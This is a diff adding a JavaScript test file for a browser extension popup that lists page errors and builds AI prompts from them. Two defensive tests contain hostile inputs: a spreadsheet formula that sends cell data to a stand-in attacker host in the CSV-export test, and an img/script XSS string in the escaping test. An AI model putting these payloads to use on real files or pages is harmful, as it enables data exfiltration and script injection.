@@ -0,0 +1,386 @@
+/**
+ * popup.test.jsは、ポップアップ（popup.html、popup.js）の表示とAIプロンプトの生成をテストする
+ *
+ * jsdomにpopup.htmlとそのスクリプトを読み込み、Service Workerの応答（_getErrors、_resolveFrames）と
+ * 購読ポートへの通知をモックで与えて、表示内容とテキストエリアのプロンプトを確かめる
+ */
+
+'use strict';
+
+var test = require('node:test');
+var assert = require('node:assert/strict');
+var load = require('./helpers/load.js');
+var chromeMock = require('./helpers/chrome.js');
+
+/** @type {number} テストで使うタブのID */
+var TAB_ID = 5;
+
+/** @type {string} エラーが発生したページのURL */
+var PAGE_URL = 'https://example.com/app';
+
+/**
+ * エラーストアのエラーグループを作成する関数
+ *
+ * @param {Object} [fields] - 上書きするフィールド
+ * @returns {Object} エラーグループ
+ *
+ */
+function createGroup(fields) {
+	return Object.assign({
+		text: 'Uncaught TypeError: user is undefined',
+		url: 'https://example.com/app.js',
+		line: 2,
+		col: 9,
+		name: 'TypeError',
+		stack: 'TypeError: user is undefined\n    at loadUser (https://example.com/app.js:2:9)',
+		frames: [{func: 'loadUser', url: 'https://example.com/app.js', line: 2, col: 9}],
+		cause: [],
+		breadcrumbs: [],
+		timestamp: 1700000000000,
+		source: 'onerror',
+		type: 'script',
+		severity: 'error',
+		fingerprint: 'a1',
+		frameId: 0,
+		frameUrl: PAGE_URL,
+		frameOrigin: 'https://example.com',
+		navigationId: 'n1',
+		count: 1,
+		firstSeen: 1700000000000,
+		lastSeen: 1700000000000
+	}, fields);
+}
+
+/**
+ * ネットワークエラーのエラーグループを作成する関数
+ *
+ * @returns {Object} エラーグループ
+ *
+ */
+function createNetworkGroup() {
+	return createGroup({
+		text: 'GET https://api.example.com/users 500',
+		url: 'https://api.example.com/users',
+		line: null,
+		col: null,
+		name: null,
+		stack: null,
+		frames: [],
+		source: 'network',
+		type: 'network',
+		fingerprint: 'network:GET https://api.example.com/users 500',
+		network: {method: 'GET', statusCode: 500, statusText: 'Internal Server Error', error: null, initiator: 'https://example.com', type: 'xmlhttprequest'}
+	});
+}
+
+/**
+ * エラーストアを返すService Workerのモックでポップアップを開き、初期表示の完了を待つ関数
+ *
+ * @param {Object} t - テストコンテキスト
+ * @param {Array<Object>} errors - エラーストアのエラー
+ * @param {Array<Object>} [navigations] - エラーストアのナビゲーションの区切り（省略した場合はページの読み込み1件）
+ * @returns {Promise<Object>} ページ
+ *
+ */
+async function openPopup(t, errors, navigations) {
+	navigations = navigations || [{id: 'n1', url: PAGE_URL, kind: 'load', startedAt: 1700000000000}];
+	var chrome = chromeMock.createChrome({respond: function(message) {
+		if(message._getErrors) {
+			return {url: PAGE_URL, errors: errors, navigations: navigations};
+		}
+		if(message._resolveFrames) {
+			return message.frames;
+		}
+		return {};
+	}});
+	var page = load.loadPage({
+		file: 'popup.html',
+		url: 'chrome-extension://' + chromeMock.EXTENSION_ID + '/popup.html?tabId=' + TAB_ID,
+		chrome: chrome
+	});
+	t.after(page.close);
+	page.fireDOMContentLoaded();
+
+	// ソースマップの解決後の再描画まで待つ
+	await load.waitFor(function() {
+		var resolving = chrome._test.sentMessages.some(function(message) {
+			return message._resolveFrames;
+		});
+		var rendered = page.document.getElementById('newErrorInfo').children.length > 0;
+		return rendered && (!errors.some(hasFrames) || resolving);
+	});
+	await waitForPrompt(page);
+	return page;
+}
+
+/**
+ * スタックフレームを持つエラーかどうかを判定する関数
+ *
+ * @param {Object} error - エラー情報
+ * @returns {boolean} フレームを持つ場合はtrue
+ *
+ */
+function hasFrames(error) {
+	return error.frames.length > 0;
+}
+
+/**
+ * テキストエリアのプロンプトの更新が落ち着くまで待つ関数
+ *
+ * @param {Object} page - ページ
+ * @returns {Promise<string>} プロンプト
+ *
+ */
+async function waitForPrompt(page) {
+	var promptArea = page.document.getElementById('promptArea');
+	var previous = null;
+	await load.waitFor(function() {
+		var settled = previous === promptArea.value;
+		previous = promptArea.value;
+		return settled;
+	});
+	return promptArea.value;
+}
+
+/**
+ * 表示中のエラーのメッセージを返す関数
+ *
+ * @param {Object} page - ページ
+ * @returns {Array<string>} 表示中のエラーのメッセージ（非表示のものを除く）
+ *
+ */
+function visibleMessages(page) {
+	return Array.prototype.filter.call(page.document.querySelectorAll('#newErrorInfo .log'), function(log) {
+		return log.style.display !== 'none';
+	}).map(function(log) {
+		return log.querySelector('.msg').textContent;
+	});
+}
+
+test('エラーがない場合はその旨を表示する', async function(t) {
+	var page = await openPopup(t, []);
+	var empty = page.document.querySelector('#newErrorInfo .empty');
+	assert.equal(empty.textContent, page.chrome.i18n.getMessage('noErrors'));
+	assert.equal(page.document.getElementById('promptArea').value, '');
+	assert.equal(page.document.documentElement.lang, 'en');
+});
+
+test('スクリプトエラーを1件表示し、「もっと見る」で残りを表示する', async function(t) {
+	var page = await openPopup(t, [
+		createGroup({fingerprint: 'a1', text: 'first failure', lastSeen: 1700000003000}),
+		createGroup({fingerprint: 'a2', text: 'second failure', lastSeen: 1700000002000, count: 3}),
+		createGroup({fingerprint: 'a3', text: 'third failure', lastSeen: 1700000001000})
+	]);
+	var document = page.document;
+	assert.equal(document.querySelector('#newErrorInfo strong').textContent, page.chrome.i18n.getMessage('popupDetectedErrors', ['3']));
+	assert.deepEqual(visibleMessages(page), ['TypeError: first failure']);
+
+	var showMore = document.getElementById('showMoreBtn');
+	assert.equal(showMore.textContent, page.chrome.i18n.getMessage('popupShowMore', ['2']));
+	showMore.click();
+	assert.deepEqual(visibleMessages(page), ['TypeError: first failure', 'TypeError: second failure', 'TypeError: third failure']);
+	assert.equal(showMore.textContent, page.chrome.i18n.getMessage('popupShowLess'));
+	assert.equal(document.querySelectorAll('#newErrorInfo .count')[0].textContent, '×3');
+});
+
+test('ネットワークエラーは別のカテゴリに表示する', async function(t) {
+	var page = await openPopup(t, [createGroup(), createNetworkGroup()]);
+	var network = page.document.querySelector('#newErrorInfo .network-container .log');
+	assert.equal(network.querySelector('.pill').textContent, '500');
+	assert.equal(network.querySelector('.msg').textContent, 'GET https://api.example.com/users');
+	var scripts = page.document.querySelectorAll('#newErrorInfo .errors-container:not(.network-container) .log');
+	assert.equal(scripts.length, 1);
+	assert.equal(scripts[0].querySelector('.msg').textContent, 'Uncaught TypeError: user is undefined');
+});
+
+test('スタックトレースを展開可能な要素として表示する', async function(t) {
+	var page = await openPopup(t, [createGroup()]);
+	var stack = page.document.querySelector('#newErrorInfo details.stack');
+	assert.equal(stack.querySelector('summary').textContent, page.chrome.i18n.getMessage('stackSummary', ['1']));
+	assert.match(stack.querySelector('ol.frames li').textContent, /loadUser/);
+});
+
+test('表示中のエラーからAIプロンプトを生成してテキストエリアに設定する', async function(t) {
+	var page = await openPopup(t, [createGroup(), createNetworkGroup()]);
+	var prompt = page.document.getElementById('promptArea').value;
+	assert.match(prompt, /^Please analyze the following JavaScript errors/);
+	assert.match(prompt, /TypeError: user is undefined/);
+	assert.match(prompt, /https:\/\/example\.com\/app\.js:2:9/);
+	assert.match(prompt, /Network errors:/);
+	assert.match(prompt, /GET https:\/\/api\.example\.com\/users \(500 Internal Server Error\)/);
+});
+
+test('generateAIPromptは指定したテンプレートでプロンプトを生成する', async function(t) {
+	var page = await openPopup(t, []);
+	var prompt = await page.window.generateAIPrompt([createGroup({count: 2})], PAGE_URL, 'fix');
+	assert.match(prompt, /^Please write code that fixes/);
+	assert.match(prompt, /Page: https:\/\/example\.com\/app/);
+	assert.match(prompt, /## Error 1: Uncaught TypeError: user is undefined/);
+	assert.match(prompt, /at loadUser/);
+
+	// 存在しないテンプレートの場合は最初のテンプレートを使う
+	prompt = await page.window.generateAIPrompt([createGroup()], PAGE_URL, 'missing');
+	assert.match(prompt, /^Please analyze the following JavaScript errors/);
+});
+
+test('CSVのエクスポートでは数式として評価される文字列の先頭に「\'」を付ける', async function(t) {
+	var page = await openPopup(t, []);
+	var csv = page.window.exportCsv(page.window.buildExportReport([
+		createGroup({text: '=HYPERLINK("https://attacker.example/?"&A1,"Click")', url: '@SUM(1+1)', frameUrl: '+cmd'})
+	], PAGE_URL));
+	var row = csv.split('\r\n')[1];
+	assert.match(row, /"'=HYPERLINK\(""https:\/\/attacker\.example\/\?""&A1,""Click""\)"/);
+	assert.match(row, /"'@SUM\(1\+1\)"/);
+	assert.match(row, /"'\+cmd"/);
+	// 数値のフィールドはそのまま出力する
+	assert.match(row, /,"2","9",/);
+});
+
+test('検索に一致するエラーがない場合はその旨を表示する', async function(t) {
+	var page = await openPopup(t, [createGroup()]);
+	var searchBox = page.document.getElementById('searchBox');
+	searchBox.value = 'no such error';
+	searchBox.dispatchEvent(new page.window.Event('input'));
+
+	assert.equal(page.document.querySelector('#newErrorInfo .empty').textContent, page.chrome.i18n.getMessage('noMatchingErrors'));
+	assert.equal(await waitForPrompt(page), '');
+});
+
+test('エラーストアの変更の通知を受けて表示を更新する', async function(t) {
+	var page = await openPopup(t, []);
+	var port = page.chrome._test.ports[0];
+	assert.equal(port.name, 'subscribe');
+	assert.deepEqual(port.sent, [{_subscribe: true, tabId: TAB_ID}]);
+
+	port.onMessage.dispatch({_errorsChanged: true, tabId: TAB_ID, url: PAGE_URL, errors: [createGroup({text: 'late failure'})], navigations: []});
+	await load.waitFor(function() {
+		return visibleMessages(page).length === 1;
+	});
+	assert.deepEqual(visibleMessages(page), ['TypeError: late failure']);
+
+	// ほかのタブの通知は無視する
+	port.onMessage.dispatch({_errorsChanged: true, tabId: TAB_ID + 1, url: PAGE_URL, errors: [], navigations: []});
+	await waitForPrompt(page);
+	assert.deepEqual(visibleMessages(page), ['TypeError: late failure']);
+});
+
+test('クリアボタンでService Workerにエラーのクリアを依頼する', async function(t) {
+	var page = await openPopup(t, [createGroup()]);
+	page.document.getElementById('clearButton').click();
+	assert.deepEqual(page.chrome._test.sentMessages[page.chrome._test.sentMessages.length - 1], {_clearErrors: true, tabId: TAB_ID});
+});
+
+/** @type {string} ページ側から渡される、HTMLとして解釈されると要素を挿入する文字列 */
+var HOSTILE = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
+
+test('ページ側から渡された文字列をHTMLとして解釈せずテキストとして表示する', async function(t) {
+	var page = await openPopup(t, [
+		createGroup({
+			text: 'Uncaught ' + HOSTILE,
+			url: 'https://example.com/"><img src=x>.js',
+			name: HOSTILE,
+			frameId: 2,
+			frameUrl: 'https://example.com/frame' + HOSTILE,
+			frameOrigin: null,
+			severity: '"><img src=x>',
+			type: 'resource',
+			navigationId: 'n2',
+			cause: [{name: HOSTILE, text: HOSTILE}],
+			breadcrumbs: [{category: 'console', level: '"><img src=x>', message: HOSTILE, timestamp: 1699999999000}],
+			answer: {text: HOSTILE, answeredAt: 1700000001000}
+		}),
+		createGroup({fingerprint: 'a2', text: 'second failure'}),
+		Object.assign(createNetworkGroup(), {url: 'https://api.example.com/' + HOSTILE, network: {method: HOSTILE, statusCode: HOSTILE, statusText: HOSTILE, error: null, initiator: HOSTILE, type: HOSTILE}})
+	], [
+		{id: 'n1', url: PAGE_URL, kind: 'load', startedAt: 1700000000000},
+		{id: 'n2', url: PAGE_URL + '#' + HOSTILE, kind: 'spa', startedAt: 1700000000500}
+	]);
+	var document = page.document;
+	['newErrorInfo', 'frameFilter', 'filterChips'].forEach(function(id) {
+		assert.equal(document.getElementById(id).querySelectorAll('img, script, iframe, object').length, 0);
+	});
+	assert.equal(page.window.pwned, undefined);
+
+	var logs = document.querySelectorAll('#newErrorInfo .log');
+	assert.equal(logs[0].querySelector('.msg').textContent, 'Uncaught ' + HOSTILE);
+	assert.equal(logs[0].querySelector('.pill').title, '"><img src=x>');
+	assert.match(logs[0].querySelector('.frame').textContent, /<img src=x/);
+	assert.match(logs[0].querySelector('.cause').textContent, /<script>window\.pwned=1<\/script>$/);
+	assert.equal(logs[0].querySelector('.timeline li').className, '"><img src=x>');
+	assert.equal(logs[0].querySelector('.ai-answer').textContent, HOSTILE);
+	assert.equal(document.querySelector('#newErrorInfo .nav-marker .nav-url').textContent, PAGE_URL + '#' + HOSTILE);
+	assert.ok(Array.prototype.some.call(document.getElementById('frameFilter').options, function(option) {
+		return /<img src=x/.test(option.textContent);
+	}));
+
+	var network = document.querySelector('#newErrorInfo .network-container .log');
+	assert.equal(network.querySelector('.pill').textContent, HOSTILE);
+	assert.equal(network.querySelector('.src').textContent, HOSTILE + ' · ' + HOSTILE);
+});
+
+test('メッセージ中のhttp(s)のURLのみをリンクにする', async function(t) {
+	var text = 'Failed to fetch https://api.example.com/users?id=1. See javascript:alert(1), http://[bad and (https://docs.example.com/errors#fetch)';
+	var page = await openPopup(t, [createGroup({text: text, name: null})]);
+	var message = page.document.querySelector('#newErrorInfo .msg');
+	assert.equal(message.textContent, text);
+
+	var links = message.querySelectorAll('a');
+	assert.deepEqual(Array.prototype.map.call(links, function(link) {
+		return [link.textContent, link.href, link.target, link.rel];
+	}), [
+		['https://api.example.com/users?id=1', 'https://api.example.com/users?id=1', '_blank', 'noopener noreferrer'],
+		['https://docs.example.com/errors#fetch', 'https://docs.example.com/errors#fetch', '_blank', 'noopener noreferrer']
+	]);
+});
+
+test('長いメッセージは折りたたみ、ボタンで全文を表示する', async function(t) {
+	var lines = [];
+	for(var i = 1; i <= 20; i++) {
+		lines.push('line ' + i);
+	}
+	var multiline = lines.join('\n');
+	var page = await openPopup(t, [
+		createGroup({text: multiline, name: null}),
+		createGroup({fingerprint: 'a2', text: 'x'.repeat(1000), name: null, lastSeen: 1699999999000})
+	]);
+	page.document.getElementById('showMoreBtn').click();
+	var logs = page.document.querySelectorAll('#newErrorInfo .log');
+
+	// 改行はそのまま保持し、先頭の行のみ表示する
+	var message = logs[0].querySelector('.msg');
+	var toggle = logs[0].querySelector('.msg-toggle');
+	assert.equal(message.textContent, lines.slice(0, 6).join('\n') + '…');
+	assert.equal(toggle.textContent, page.chrome.i18n.getMessage('popupMessageExpand'));
+	toggle.click();
+	assert.equal(message.textContent, multiline);
+	assert.equal(toggle.textContent, page.chrome.i18n.getMessage('popupMessageCollapse'));
+	toggle.click();
+	assert.equal(message.textContent, lines.slice(0, 6).join('\n') + '…');
+
+	assert.equal(logs[1].querySelector('.msg').textContent.length, 301);
+	logs[1].querySelector('.msg-toggle').click();
+	assert.equal(logs[1].querySelector('.msg').textContent, 'x'.repeat(1000));
+
+	// 短いメッセージには切り替えボタンを表示しない
+	var short = await openPopup(t, [createGroup()]);
+	assert.equal(short.document.querySelector('#newErrorInfo .msg-toggle'), null);
+});
+
+test('プロンプトの秘密情報や個人情報を伏せ、伏せた内容をコピー前に表示する', async function(t) {
+	var page = await openPopup(t, [createGroup({text: 'Login failed for jane@example.com', url: 'https://example.com/app.js?token=abc123'})]);
+	var prompt = page.document.getElementById('promptArea').value;
+	assert.doesNotMatch(prompt, /jane@example\.com|abc123/);
+	assert.match(prompt, /\[REDACTED:EMAIL\]/);
+	assert.match(prompt, /token=\[REDACTED:PARAM\]/);
+
+	var preview = page.document.getElementById('redactionPreview');
+	assert.notEqual(preview.style.display, 'none');
+	assert.match(preview.textContent, /Email addresses ×1/);
+
+	// テキストエリアで追加された内容もコピー・送信する前に伏せる
+	var promptArea = page.document.getElementById('promptArea');
+	promptArea.value += '\nAuthorization: Bearer abcdefghijklmnop';
+	promptArea.dispatchEvent(new page.window.Event('input'));
+	assert.match(page.window.promptToSend(), /Bearer \[REDACTED:API_KEY\]/);
+	assert.match(preview.textContent, /API keys and bearer tokens ×1/);
+});